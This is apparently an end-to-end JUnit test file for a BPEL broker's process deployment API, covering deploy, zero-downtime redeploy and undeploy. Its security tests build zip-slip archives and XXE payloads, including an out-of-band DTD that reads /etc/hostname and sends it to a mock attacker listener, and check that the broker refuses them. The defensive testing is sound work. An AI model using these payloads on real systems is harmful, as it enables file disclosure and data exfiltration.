package io.moses.core;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.moses.core.loop.Adaptation;
import io.moses.testing.Waits;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * Process management over the admin API: a zipped deployment unit is deployed, hostile and
 * broken bundles are refused with nothing applied, a new version is deployed under load with
 * zero failed requests (running ones finish on the old version, new ones start on the new),
 * and the unit is undeployed.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@Tag("e2e")
class ProcessManagementTest {
    static final HttpClient HTTP = HttpClient.newHttpClient();
    static final Path UNIT = Path.of("src/test/resources/processes/echo-pair");
    @TempDir static Path work;
    static EchoPartner partner;
    static Broker broker;

    @BeforeAll
    static void start() throws Exception {
        Files.writeString(work.resolve("seed.yaml"), BrokerKnowledgeBaseTest.seed().replace("users:\n",
                "users:\n  - {name: olga, class: gold, rate: 0, password: olga-secret, role: operator}\n"));
        partner = new EchoPartner(20);
        BrokerConfig config = BrokerConfig.defaults().withPort(0).withWorkDir(work).withDb("mem:processes")
                .withAdaptation(Adaptation.off().withOptimizer(true, "auto")).withMaxBodyBytes(256 * 1024)
                .withSeeds(List.of(work.resolve("seed.yaml"))).withVariables(Map.of("PARTNER", partner.url("")));
        broker = new Broker(config);
        broker.start();
    }

    @AfterAll
    static void stop() {
        if (broker != null) broker.close();
        if (partner != null) partner.close();
    }

    /** The unit's files, with replacements applied to the .bpel. */
    static Map<String, byte[]> unit(String from, String to) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try (var list = Files.list(UNIT)) {
            for (Path f : list.sorted().toList()) {
                String text = Files.readString(f);
                if (f.toString().endsWith(".bpel") && from != null) text = text.replace(from, to);
                files.put(f.getFileName().toString(), text.getBytes());
            }
        }
        return files;
    }

    static byte[] zip(Map<String, byte[]> files) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out)) {
            for (var e : files.entrySet()) {
                z.putNextEntry(new ZipEntry(e.getKey()));
                z.write(e.getValue());
                z.closeEntry();
            }
        }
        return out.toByteArray();
    }

    static HttpResponse<String> admin(String method, String path, byte[] body, String user, String password) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + broker.port() + path)).method(method,
                body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (user != null) b.header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes()));
        return HTTP.send(b.header("Content-Type", "application/zip").build(), HttpResponse.BodyHandlers.ofString());
    }

    static HttpResponse<String> operator(String method, String path, byte[] body) throws Exception {
        return admin(method, path, body, "olga", "olga-secret");
    }

    static String state() {
        return broker.deployments().stream().map(d -> d.name() + "@" + d.dir().getFileName()).toList() + " models "
                + broker.knowledgeBase().compositeServices().stream().map(c -> c.name()).toList() + " plan " + broker.planVersion();
    }

    static void refused(int status, String reason, HttpResponse<String> r, String before) {
        assertEquals(status, r.statusCode(), r.body());
        assertTrue(r.body().contains(reason), "expected '" + reason + "' in [" + r.body() + "] " + r.headers().map());
        assertEquals(before, state(), "a refused call changes nothing");
    }

    @Test
    @Order(1)
    void deploysAZippedUnitAndServesIt() throws Exception {
        HttpResponse<String> r = operator("POST", "/admin/processes/echo-pair", zip(unit(null, null)));
        assertEquals(201, r.statusCode(), r.body());
        assertTrue(r.body().contains("/services/EchoPairService"), r.body());
        HttpResponse<String> call = BrokerKnowledgeBaseTest.call(broker.port(), "alice", "alice-secret");
        assertEquals(200, call.statusCode(), call.body());
        assertTrue(call.body().contains("kb via /left"), call.body());
        assertTrue(broker.knowledgeBase().compositeService("EchoPair").isPresent(), "the behavioral model is stored");
        assertTrue(operator("GET", "/admin/processes", null).body().contains("\"echo-pair\""));
    }

    @Test
    @Order(2)
    void badBundlesAreRefusedAndChangeNothing() throws Exception {
        String before = state();
        refused(409, "is deployed", operator("POST", "/admin/processes/echo-pair", zip(unit(null, null))), before);
        refused(400, "not a zip", operator("POST", "/admin/processes/other", "this is not a zip".getBytes()), before);
        refused(400, "not a zip of a deployment unit", operator("POST", "/admin/processes/other", new byte[0]), before);
        Map<String, byte[]> evil = unit(null, null);
        evil.put("../evil.txt", "x".getBytes());
        refused(400, "contains '..'", operator("POST", "/admin/processes/other", zip(evil)), before);
        assertFalse(Files.exists(work.resolve("uploads").resolve("evil.txt")));
        Map<String, byte[]> absolute = unit(null, null);
        absolute.put("/tmp/moses-absolute.txt", "x".getBytes());
        refused(400, "absolute path", operator("POST", "/admin/processes/other", zip(absolute)), before);
        assertFalse(Files.exists(Path.of("/tmp/moses-absolute.txt")));
        Map<String, byte[]> noDescriptor = unit(null, null);
        noDescriptor.remove("deploy.xml");
        refused(400, "no deploy.xml", operator("POST", "/admin/processes/other", zip(noDescriptor)), before);
        // refused half unpacked (a file and a folder of one name): before, its upload directory stayed
        Map<String, byte[]> clash = unit(null, null);
        clash.put("x", "x".getBytes());
        clash.put("x/y", "y".getBytes());
        refused(400, "cannot unpack", operator("POST", "/admin/processes/other", zip(clash)), before);
        try (var uploads = Files.list(work.resolve("uploads"))) {
            assertEquals(List.of(), uploads.toList(), "a refused bundle leaves no upload directory");
        }
        HttpResponse<String> invalid = operator("POST", "/admin/processes/other",
                zip(unit("<receive name=\"start\" partnerLink=\"client\" operation=\"pair\" variable=\"input\"",
                        "<receive name=\"start\" partnerLink=\"client\" operation=\"pair\" variable=\"undeclared\"")));
        refused(400, "invalid BPEL", invalid, before);
        assertTrue(invalid.body().contains("undeclared"), "ODE's compiler message names the problem: " + invalid.body());
        refused(413, "larger than the limit", operator("POST", "/admin/processes/other", new byte[512 * 1024]), before);
        refused(400, "process bundle name", operator("POST", "/admin/processes/a%20b", zip(unit(null, null))), before);
        refused(404, "no deployed unit 'ghost'", operator("PUT", "/admin/processes/ghost", zip(unit(null, null))), before);
        refused(404, "no deployed unit 'ghost'", operator("DELETE", "/admin/processes/ghost", null), before);
        refused(403, "not an operator", admin("POST", "/admin/processes/other", zip(unit(null, null)), "alice", "alice-secret"), before);
        refused(401, "authentication required", admin("DELETE", "/admin/processes/echo-pair", null, null, null), before);
    }

    /** {@code text} with a DOCTYPE inserted after its XML declaration (or at its start). */
    static String doctype(String text, String root, String subset) {
        String decl = text.startsWith("<?xml") ? text.substring(0, text.indexOf("?>") + 2) : "";
        return decl + "<!DOCTYPE " + root + " [" + subset + "]>" + text.substring(decl.length());
    }

    static Map<String, byte[]> with(String file, java.util.function.UnaryOperator<String> change) throws IOException {
        Map<String, byte[]> files = unit(null, null);
        files.put(file, change.apply(new String(files.get(file), StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
        return files;
    }

    /**
     * Bundles built to make the broker read a local file or fetch a URL through one of its XML
     * readers (XMLBeans for deploy.xml, WSDL4J and ODE's compiler for WSDLs and processes): each
     * is refused before any of them reads it. The listener standing in for the attacker's server
     * is never called, and neither the answer nor the public /health names the server's
     * directories or the error.
     */
    @Test
    @Order(2)
    void bundlesThatWouldReadFilesOrFetchUrlsAreRefusedBeforeAnyXmlLibraryReadsThem() throws Exception {
        List<String> fetched = new java.util.concurrent.CopyOnWriteArrayList<>();
        com.sun.net.httpserver.HttpServer attacker = com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", x -> {
            fetched.add(x.getRequestURI().toString());
            byte[] dtd = "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1/x?%file;'>\"> %all;".getBytes(StandardCharsets.UTF_8);
            x.sendResponseHeaders(200, dtd.length);
            x.getResponseBody().write(dtd);
            x.close();
        });
        attacker.start();
        try {
            String evil = "http://127.0.0.1:" + attacker.getAddress().getPort();
            String before = state();
            Map<String, Map<String, byte[]>> bundles = new LinkedHashMap<>();
            Map<String, String> reasons = new LinkedHashMap<>();
            bundles.put("dd-parameter-entity", with("deploy.xml", t -> doctype(t, "deploy", "<!ENTITY % x SYSTEM \"" + evil + "/dd.dtd\"> %x;")));
            reasons.put("dd-parameter-entity", "deploy.xml: a DOCTYPE is not allowed");
            bundles.put("dd-out-of-band", with("deploy.xml", t -> doctype(t, "deploy",
                    "<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % dtd SYSTEM \"" + evil + "/oob.dtd\"> %dtd;")));
            reasons.put("dd-out-of-band", "deploy.xml: a DOCTYPE is not allowed");
            bundles.put("wsdl-entity", with("Partner.wsdl", t -> doctype(t, "definitions", "<!ENTITY e SYSTEM \"" + evil + "/wsdl\">")
                    .replace("</definitions>", "<documentation>&e;</documentation></definitions>")));
            reasons.put("wsdl-entity", "Partner.wsdl: a DOCTYPE is not allowed");
            bundles.put("bpel-entity", with("EchoPair.bpel", t -> doctype(t, "process", "<!ENTITY % x SYSTEM \"" + evil + "/bpel.dtd\"> %x;")));
            reasons.put("bpel-entity", "EchoPair.bpel: a DOCTYPE is not allowed");
            bundles.put("import-url", with("EchoPair.bpel", t -> t.replace("location=\"Partner.wsdl\"", "location=\"" + evil + "/Partner.wsdl\"")));
            reasons.put("import-url", "points outside the unit");
            bundles.put("import-up", with("EchoPair.bpel", t -> t.replace("location=\"Partner.wsdl\"", "location=\"../../../../etc/Partner.wsdl\"")));
            reasons.put("import-up", "points outside the unit");
            bundles.put("schema-include-url", with("Partner.wsdl", t -> t.replace("<types>",
                    "<types><xsd:schema targetNamespace=\"urn:x\"><xsd:include schemaLocation=\"" + evil + "/x.xsd\"/></xsd:schema>")));
            reasons.put("schema-include-url", "points outside the unit");
            String work = ProcessManagementTest.work.toAbsolutePath().toString();
            for (var b : bundles.entrySet()) {
                HttpResponse<String> r = operator("POST", "/admin/processes/" + b.getKey(), zip(b.getValue()));
                refused(400, reasons.get(b.getKey()), r, before);
                assertEquals(List.of(), fetched, b.getKey() + ": the broker fetched the attacker's URL: " + r.body());
                assertFalse(r.body().contains(work) || r.body().contains(System.getProperty("java.io.tmpdir") + "/"),
                        b.getKey() + ": the answer names the server's directories: " + r.body());
            }
            String health = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + broker.port() + "/health")).build(),
                    HttpResponse.BodyHandlers.ofString()).body();
            assertFalse(health.contains("DOCTYPE") || health.contains(work), health);
        } finally {
            attacker.stop(0);
        }
    }

    @Test
    @Order(3)
    void redeploysANewVersionUnderLoadWithZeroFailedRequests() throws Exception {
        byte[] v2 = zip(unit("<copy><from>$input.parameters/tns:text</from><to>$leftIn.parameters/pt:text</to></copy>",
                "<copy><from>concat('v2:', $input.parameters/tns:text)</from><to>$leftIn.parameters/pt:text</to></copy>"));
        AtomicBoolean running = new AtomicBoolean(true);
        AtomicInteger failures = new AtomicInteger();
        AtomicInteger ok = new AtomicInteger();
        AtomicInteger onV2 = new AtomicInteger();
        List<String> failed = java.util.Collections.synchronizedList(new ArrayList<>());
        List<Thread> clients = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            Thread t = new Thread(() -> {
                while (running.get()) {
                    try {
                        HttpResponse<String> r = BrokerKnowledgeBaseTest.call(broker.port(), "alice", "alice-secret");
                        if (r.statusCode() != 200) {
                            failures.incrementAndGet();
                            failed.add(r.body());
                        } else {
                            ok.incrementAndGet();
                            if (r.body().contains("v2:kb")) onV2.incrementAndGet();
                        }
                    } catch (Exception e) {
                        failures.incrementAndGet();
                        failed.add(e.toString());
                    }
                }
            });
            t.start();
            clients.add(t);
        }
        try {
            Waits.within(30, () -> ok.get() >= 10); // a busy machine: wait for the load to run, not a fixed time
            assertEquals(0, onV2.get());
            int beforeRedeploy = ok.get();
            HttpResponse<String> r = operator("PUT", "/admin/processes/echo-pair", v2);
            assertEquals(200, r.statusCode(), r.body());
            assertTrue(beforeRedeploy > 0, "load ran before the redeploy");
            // from the reply on, new requests run the new version
            HttpResponse<String> after = BrokerKnowledgeBaseTest.call(broker.port(), "alice", "alice-secret");
            assertEquals(200, after.statusCode(), after.body());
            assertTrue(after.body().contains("v2:kb"), after.body());
            int atSwitch = ok.get();
            Waits.within(30, () -> ok.get() >= atSwitch + 10);
        } finally {
            running.set(false);
            for (Thread t : clients) t.join(10_000);
        }
        assertEquals(0, failures.get(), "failed requests during the redeploy: " + failed.stream().limit(3).toList());
        assertTrue(onV2.get() > 0, "requests after the redeploy ran on the new version");
        assertTrue(ok.get() > onV2.get(), "requests before it ran on the old one");
    }

    @Test
    @Order(4)
    void undeploysTheUnit() throws Exception {
        HttpResponse<String> r = operator("DELETE", "/admin/processes/echo-pair", null);
        assertEquals(200, r.statusCode(), r.body());
        assertTrue(broker.deployments().isEmpty());
        assertTrue(broker.knowledgeBase().compositeService("EchoPair").isEmpty(), "the behavioral model is gone");
        HttpResponse<String> call = BrokerKnowledgeBaseTest.call(broker.port(), "alice", "alice-secret");
        assertTrue(call.statusCode() == 404 || call.statusCode() == 500, call.statusCode() + " " + call.body());
        // and it can be deployed again under the same name
        assertEquals(201, operator("POST", "/admin/processes/echo-pair", zip(unit(null, null))).statusCode());
        assertEquals(200, BrokerKnowledgeBaseTest.call(broker.port(), "alice", "alice-secret").statusCode());
    }
}
